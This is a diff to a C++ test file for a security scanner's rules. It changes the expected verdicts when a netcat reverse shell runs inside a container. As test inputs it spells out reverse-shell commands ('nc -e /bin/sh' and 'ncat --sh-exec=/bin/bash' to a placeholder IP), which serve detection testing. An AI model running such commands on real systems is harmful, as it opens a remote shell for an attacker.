@@ -239,7 +239,8 @@ TEST_CASE("first_rules: nc -z in a container is only a low network tool", "[firs
 
 TEST_CASE("first_rules: nc -e is a reverse shell, in a container or not", "[first_rules][scanner]") {
     const Names in_container = fired(exec_scene("/bin/nc", {"nc", "-e", "/bin/sh", "1.2.3.4", "4444"}));
-    CHECK(in_container == Names{"network_tool_in_container", "reverse_shell_netcat"});
+    // one verdict per category: the reverse shell rule comes first
+    CHECK(in_container == Names{"reverse_shell_netcat"});
     CHECK(fired(exec_scene("/bin/nc", {"nc", "-e", "/bin/sh", "1.2.3.4", "4444"}).on_host()) ==
           Names{"reverse_shell_netcat"});
     CHECK(fires(exec_scene("/usr/bin/ncat", {"ncat", "--sh-exec=/bin/bash", "1.2.3.4", "80"}), "reverse_shell_netcat"));
